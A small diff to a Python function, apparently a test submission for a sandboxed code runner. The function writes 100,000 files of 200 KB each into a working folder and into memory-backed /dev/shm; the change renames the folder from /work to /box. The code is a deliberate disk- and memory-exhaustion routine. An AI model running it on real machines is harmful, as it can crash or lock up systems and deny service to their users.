@@ -4,6 +4,6 @@
 
 def answer(x):
     for number in range(100_000):
-        for folder in ("/work", "/dev/shm"):
+        for folder in ("/box", "/dev/shm"):
             with open(f"{folder}/{number}", "wb") as file:
                 file.write(b"x" * 200_000)
